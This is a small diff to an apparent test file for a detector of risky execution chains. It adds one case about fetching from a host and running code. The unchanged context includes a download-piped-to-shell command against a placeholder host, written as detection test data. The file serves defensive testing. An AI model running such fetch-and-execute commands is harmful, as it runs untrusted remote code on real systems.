@@ -9,6 +9,7 @@ from tests.analysis.chains.making import (
     CHAIN,
     FAR,
     PASTE,
+    WIDE,
     Case,
     code,
     elsewhere,
@@ -28,6 +29,7 @@ from tests.analysis.chains.making import (
 CASES = (
     Case("download-started", [starts(Taint.NETWORK)], [fetch(), start()]),
     Case("download-run-as-code", [runs(Taint.NETWORK)], [runs(Taint.FILE)]),
+    Case("host-asked-and-code-run", [load(fetch()), load(code())], [load(fetch(WIDE)), load(code())]),
     Case(
         "download-piped-to-interpreter",
         [start("curl https://far.invalid/x | sh")],
